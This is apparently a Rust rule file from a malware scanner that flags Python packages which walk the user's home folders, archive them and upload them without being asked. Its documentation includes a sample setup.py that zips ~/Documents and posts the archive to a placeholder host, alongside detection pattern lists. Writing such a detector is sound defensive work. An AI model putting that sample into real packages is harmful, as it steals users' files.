//! ## What it detects
//!
//! Code that nobody called, which walks through a folder of the user and sends what it finds, packed into an archive or
//! as it is.
//!
//! ## Why it is bad
//!
//! Thieves take whole folders: documents, profiles of browsers, wallets. Packed, they look like no secret to anybody.
//!
//! ## Innocent lookalikes
//!
//! Backup and deployment tools do all of that when they are called, which doesn't count here.
//!
//! ## Bad
//!
//! ```python setup.py
//! import os, zipfile, requests
//! home = os.path.expanduser('~')
//! with zipfile.ZipFile('/tmp/a.zip', 'w') as z:
//!     for folder, _, names in os.walk(home + '/Documents'):
//!         for name in names:
//!             z.write(os.path.join(folder, name))
//! requests.post('http://x.example.invalid/', files={'f': open('/tmp/a.zip', 'rb')})
//! ```
//!
//! ## Good
//!
//! ```python setup.py
//! import os, zipfile
//! with zipfile.ZipFile('dist/data.zip', 'w') as z:
//!     for folder, _, names in os.walk('data'):
//!         for name in names:
//!             z.write(os.path.join(folder, name))
//! ```

use fondaco_python::{Api, Call, Taint, Unit};
use fondaco_verdict::{Behaviour, Confidence, RuleId, Severity, Trigger};

use super::private_upload::is_mail;
use crate::{Hits, Package, Rule};

pub(crate) const RULE: Rule = Rule {
    id: RuleId::new("archived-home"),
    title: "sends the user's folders",
    severity: Severity::High,
    confidence: Confidence::Medium,
    behaviour: Some(Behaviour::Exfiltration),
    weight: 1.4,
    check,
};

const WALKS: [&str; 4] = ["os.walk(", ".rglob(", "make_archive(", "glob.glob("];
const PACKS: [&str; 4] = ["zipfile", "make_archive(", "tarfile", "py7zr"];
const HOMES: [&str; 8] =
    ["expanduser", "USERPROFILE", "APPDATA", "Path.home()", "/Users", "/home", "Documents", "Desktop"];

fn check(package: &Package<'_>, hits: &mut Hits) {
    for unit in package.units() {
        let has = |marks: &[&str]| marks.iter().any(|mark| unit.text.contains(mark));
        let sends = unit.calls.iter().find(|call| {
            call.api == Some(Api::NetworkSend)
                && call.trigger.is_some_and(Trigger::is_unasked)
                && (call.taint().has(Taint::FILE | Taint::WRITTEN) || is_upload(call))
        });
        if let Some(call) = sends
            && walks_home(unit)
            && (has(&PACKS) || sends_content(call))
        {
            hits.call(unit, call, format!("{} of a file, in code that packs the user's folders", call.callee));
        }
    }
}

/// Whether code walks through a folder of the user.
pub(super) fn walks_home(unit: &Unit) -> bool {
    walks(unit) && HOMES.iter().any(|mark| unit.text.contains(mark))
}

/// Whether code walks through folders.
pub(super) fn walks(unit: &Unit) -> bool {
    WALKS.iter().any(|mark| unit.text.contains(mark))
}

/// Whether what is sent was read from files: not their archive, but they themselves.
fn sends_content(call: &Call) -> bool {
    let body = call.args.iter().skip(usize::from(!is_mail(call))).chain(call.kwargs.iter().filter(|(name, _)| name != "headers").map(|(_, v)| v));
    body.into_iter().any(|value| value.taint.has(Taint::FILE))
}

/// A call that sends files and nothing else.
fn is_upload(call: &Call) -> bool {
    call.callee.ends_with(".storbinary") || call.kwargs.iter().any(|(name, _)| name == "files")
}
